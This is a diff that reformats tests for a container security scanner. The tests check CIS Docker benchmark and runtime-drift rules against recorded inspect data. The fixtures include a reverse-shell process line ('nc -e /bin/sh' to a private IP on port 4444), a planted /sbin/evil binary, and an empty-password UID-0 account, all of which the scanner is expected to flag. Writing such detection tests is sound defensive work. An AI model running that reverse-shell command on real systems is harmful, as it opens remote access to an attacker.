@@ -23,7 +23,11 @@ describe('scan rules on recorded inspect data', () => {
   });
 
   it('the loose container: exact runtime and image findings with their evidence', () => {
-    const data = hardenedData({ container: recorded.looseInspect(), image: available(recorded.appImage()), baseline: unavailable('no baseline yet') });
+    const data = hardenedData({
+      container: recorded.looseInspect(),
+      image: available(recorded.appImage()),
+      baseline: unavailable('no baseline yet'),
+    });
     const { findings } = evaluate(data, all);
     expect(findings.map((f) => [f.ruleId, f.severity, f.evidence])).toEqual([
       ['CIS-5.4', 'high', ['HostConfig.CapAdd includes NET_ADMIN', 'HostConfig.CapAdd includes SYS_ADMIN']],
@@ -50,10 +54,15 @@ describe('scan rules on recorded inspect data', () => {
   it('privileged, host network, user namespace, shared propagation, latest tag and AppArmor from edited inspect data', () => {
     const c = recorded.hardenedInspect();
     Object.assign(c.HostConfig, { Privileged: true, NetworkMode: 'host', UsernsMode: 'host' });
-    c.Mounts = [{ Type: 'bind', Source: '/srv/data', Destination: '/data', Mode: '', RW: true, Propagation: 'rshared' }] as typeof c.Mounts;
+    c.Mounts = [
+      { Type: 'bind', Source: '/srv/data', Destination: '/data', Mode: '', RW: true, Propagation: 'rshared' },
+    ] as typeof c.Mounts;
     c.Config.Image = 'registry.example:5000/team/app';
     c.AppArmorProfile = 'unconfined';
-    const data = hardenedData({ container: c, daemon: available({ securityOptions: ['name=apparmor', 'name=seccomp,profile=default'] }) });
+    const data = hardenedData({
+      container: c,
+      daemon: available({ securityOptions: ['name=apparmor', 'name=seccomp,profile=default'] }),
+    });
     expect(evaluate(data, all).findings.map((f) => [f.ruleId, f.evidence])).toEqual([
       ['CIS-5.2', ['AppArmorProfile="unconfined"']],
       ['CIS-5.5', ['HostConfig.Privileged=true']],
@@ -78,7 +87,14 @@ describe('scan rules on recorded inspect data', () => {
     expect(findings.map((f) => [f.ruleId, f.evidence])).toEqual([
       ['CIS-4.7', ['history layer 1: /bin/sh -c apt-get update']],
       ['CIS-4.9', ['history layer 0: /bin/sh -c #(nop) ADD file:abc in /']],
-      ['CIS-4.10', ['ENV DB_PASSWORD=<redacted, 14 chars>', 'ENV NOTE=<redacted, 20 chars> looks like a AWS access key id', 'history layer 4: sets API_TOKEN=<redacted, 11 chars>']],
+      [
+        'CIS-4.10',
+        [
+          'ENV DB_PASSWORD=<redacted, 14 chars>',
+          'ENV NOTE=<redacted, 20 chars> looks like a AWS access key id',
+          'history layer 4: sets API_TOKEN=<redacted, 11 chars>',
+        ],
+      ],
       ['DH-IMG-SUDO', ['history layer 3: /bin/sh -c sudo chmod +x /x']],
     ]);
     expect(JSON.stringify(findings)).not.toContain('hunter2');
@@ -102,9 +118,15 @@ describe('scan rules on recorded inspect data', () => {
     expect(findings.map((f) => [f.ruleId, f.evidence])).toEqual([
       ['CIS-4.8', ['/usr/bin/passwd (mode 4755)']],
       ['DH-FS-PRIVATE-KEY', ['/app/server.key: private key (PEM)', '/root/.ssh/id_rsa: OPENSSH private key (PEM)']],
-      ['DH-FS-CREDENTIALS', ['/app/.env: secret variables in a .env file', '/srv/credentials.json: secrets in credentials.json']],
+      [
+        'DH-FS-CREDENTIALS',
+        ['/app/.env: secret variables in a .env file', '/srv/credentials.json: secrets in credentials.json'],
+      ],
       ['DH-FS-WORLD-WRITABLE', ['/etc/app.conf (file, mode 666)']],
-      ['DH-FS-EMPTY-PASSWORD', ['/etc/shadow: toor has an empty password', '/etc/passwd: toor has an empty password field']],
+      [
+        'DH-FS-EMPTY-PASSWORD',
+        ['/etc/shadow: toor has an empty password', '/etc/passwd: toor has an empty password field'],
+      ],
       ['DH-FS-DUPLICATE-UID', ['UID 0: root, toor']],
     ]);
   });
@@ -116,18 +138,42 @@ describe('scan rules on recorded inspect data', () => {
         { pid: 200, user: 'root', tty: 'pts/0', comm: 'sh', args: 'sh' },
         { pid: 201, user: 'root', tty: '?', comm: 'nc', args: 'nc -e /bin/sh 10.0.0.1 4444' },
       ]),
-      listeners: available([{ proto: 'tcp6', address: '::', port: 8080 }, { proto: 'tcp', address: '0.0.0.0', port: 4444 }, { proto: 'tcp', address: '127.0.0.11', port: 41234 }]),
-      changes: available([{ path: '/etc', kind: 'modified' }, { path: '/etc/passwd', kind: 'modified' }, { path: '/tmp/x', kind: 'added' }, { path: '/tmp/notes.txt', kind: 'added' }]),
-      filesystem: available({ ...emptyFilesystem(), changedModes: [{ path: 'tmp/x', mode: 0o755, type: 'file' }, { path: 'tmp/notes.txt', mode: 0o644, type: 'file' }] }),
+      listeners: available([
+        { proto: 'tcp6', address: '::', port: 8080 },
+        { proto: 'tcp', address: '0.0.0.0', port: 4444 },
+        { proto: 'tcp', address: '127.0.0.11', port: 41234 },
+      ]),
+      changes: available([
+        { path: '/etc', kind: 'modified' },
+        { path: '/etc/passwd', kind: 'modified' },
+        { path: '/tmp/x', kind: 'added' },
+        { path: '/tmp/notes.txt', kind: 'added' },
+      ]),
+      filesystem: available({
+        ...emptyFilesystem(),
+        changedModes: [
+          { path: 'tmp/x', mode: 0o755, type: 'file' },
+          { path: 'tmp/notes.txt', mode: 0o644, type: 'file' },
+        ],
+      }),
       execs: available([
         { id: 'a'.repeat(64), user: '0', privileged: true, running: true, command: 'sh' },
-        { id: 'b'.repeat(64), user: '', privileged: false, running: false, command: '/bin/busybox wget -q -O /dev/null http://127.0.0.1:8080/health' },
+        {
+          id: 'b'.repeat(64),
+          user: '',
+          privileged: false,
+          running: false,
+          command: '/bin/busybox wget -q -O /dev/null http://127.0.0.1:8080/health',
+        },
       ]),
     });
     expect(evaluate(data, all).findings.map((f) => [f.ruleId, f.evidence])).toEqual([
       ['CIS-5.23', ['exec aaaaaaaaaaaa (running): sh']],
       ['CIS-5.24', ['exec aaaaaaaaaaaa as 0 (running): sh']],
-      ['DH-RT-NEW-PROCESS', ['process 200 sh (user root): sh', 'process 201 nc (user root): nc -e /bin/sh 10.0.0.1 4444']],
+      [
+        'DH-RT-NEW-PROCESS',
+        ['process 200 sh (user root): sh', 'process 201 nc (user root): nc -e /bin/sh 10.0.0.1 4444'],
+      ],
       ['DH-RT-SHELL-TTY', ['process 200 sh on pts/0: sh']],
       ['DH-RT-NETWORK-TOOL', ['process 201 nc: nc -e /bin/sh 10.0.0.1 4444']],
       ['DH-RT-LISTEN', ['tcp 0.0.0.0:4444 listening']],
@@ -138,11 +184,26 @@ describe('scan rules on recorded inspect data', () => {
 
   it('what Docker itself adds (--init, --tmpfs targets) is not drift; a real change beside it still is', () => {
     const base = hardenedData();
-    const container = { ...base.container, HostConfig: { ...base.container.HostConfig, Init: true, Tmpfs: { '/run/app': '' } } } as typeof base.container;
+    const container = {
+      ...base.container,
+      HostConfig: { ...base.container.HostConfig, Init: true, Tmpfs: { '/run/app': '' } },
+    } as typeof base.container;
     const data = hardenedData({
       container,
-      changes: available([{ path: '/sbin', kind: 'modified' }, { path: '/sbin/docker-init', kind: 'added' }, { path: '/run', kind: 'modified' }, { path: '/run/app', kind: 'added' }, { path: '/sbin/evil', kind: 'added' }]),
-      filesystem: available({ ...emptyFilesystem(), changedModes: [{ path: 'sbin/docker-init', mode: 0o755, type: 'file' }, { path: 'sbin/evil', mode: 0o755, type: 'file' }] }),
+      changes: available([
+        { path: '/sbin', kind: 'modified' },
+        { path: '/sbin/docker-init', kind: 'added' },
+        { path: '/run', kind: 'modified' },
+        { path: '/run/app', kind: 'added' },
+        { path: '/sbin/evil', kind: 'added' },
+      ]),
+      filesystem: available({
+        ...emptyFilesystem(),
+        changedModes: [
+          { path: 'sbin/docker-init', mode: 0o755, type: 'file' },
+          { path: 'sbin/evil', mode: 0o755, type: 'file' },
+        ],
+      }),
     });
     expect(evaluate(data, all).findings.map((f) => [f.ruleId, f.evidence])).toEqual([
       ['DH-RT-SYSTEM-CHANGE', ['added /sbin/evil']],
@@ -151,12 +212,29 @@ describe('scan rules on recorded inspect data', () => {
   });
 
   it('marks checks not applicable when their data cannot be had, and never guesses', () => {
-    const data = hardenedData({ processes: unavailable('the container is not running'), listeners: unavailable('remote engine'), filesystem: unavailable('export failed'), baseline: unavailable('no baseline yet') });
+    const data = hardenedData({
+      processes: unavailable('the container is not running'),
+      listeners: unavailable('remote engine'),
+      filesystem: unavailable('export failed'),
+      baseline: unavailable('no baseline yet'),
+    });
     const r = evaluate(data, all);
     expect(r.findings).toEqual([]);
     expect(r.notApplicable.map((n) => n.ruleId)).toEqual([
-      'CIS-5.2', 'CIS-5.3', 'CIS-5.7', 'CIS-4.8', 'DH-FS-PRIVATE-KEY', 'DH-FS-CREDENTIALS', 'DH-FS-WORLD-WRITABLE', 'DH-FS-EMPTY-PASSWORD', 'DH-FS-DUPLICATE-UID',
-      'DH-RT-NEW-PROCESS', 'DH-RT-SHELL-TTY', 'DH-RT-NETWORK-TOOL', 'DH-RT-LISTEN', 'DH-RT-NEW-EXECUTABLE',
+      'CIS-5.2',
+      'CIS-5.3',
+      'CIS-5.7',
+      'CIS-4.8',
+      'DH-FS-PRIVATE-KEY',
+      'DH-FS-CREDENTIALS',
+      'DH-FS-WORLD-WRITABLE',
+      'DH-FS-EMPTY-PASSWORD',
+      'DH-FS-DUPLICATE-UID',
+      'DH-RT-NEW-PROCESS',
+      'DH-RT-SHELL-TTY',
+      'DH-RT-NETWORK-TOOL',
+      'DH-RT-LISTEN',
+      'DH-RT-NEW-EXECUTABLE',
     ]);
     expect(r.notApplicable.find((n) => n.ruleId === 'CIS-5.7')!.reason).toBe('the container is not running');
   });
@@ -166,6 +244,24 @@ describe('scan rules on recorded inspect data', () => {
     expect(picked.map((r) => r.id)).toContain('CIS-5.32');
     expect(picked.map((r) => r.id)).not.toContain('CIS-4.1');
     expect(picked.map((r) => r.id)).not.toContain('CIS-5.2');
-    expect(ids(evaluate(hardenedData({ container: recorded.looseInspect() }), picked))).toEqual(['CIS-5.4', 'CIS-5.6', 'CIS-5.8', 'CIS-5.11', 'CIS-5.12', 'CIS-5.13', 'CIS-5.14', 'CIS-5.15', 'CIS-5.16', 'CIS-5.17', 'CIS-5.18', 'CIS-5.21', 'CIS-5.22', 'CIS-5.26', 'CIS-5.29', 'CIS-5.30', 'CIS-5.32']);
+    expect(ids(evaluate(hardenedData({ container: recorded.looseInspect() }), picked))).toEqual([
+      'CIS-5.4',
+      'CIS-5.6',
+      'CIS-5.8',
+      'CIS-5.11',
+      'CIS-5.12',
+      'CIS-5.13',
+      'CIS-5.14',
+      'CIS-5.15',
+      'CIS-5.16',
+      'CIS-5.17',
+      'CIS-5.18',
+      'CIS-5.21',
+      'CIS-5.22',
+      'CIS-5.26',
+      'CIS-5.29',
+      'CIS-5.30',
+      'CIS-5.32',
+    ]);
   });
 });
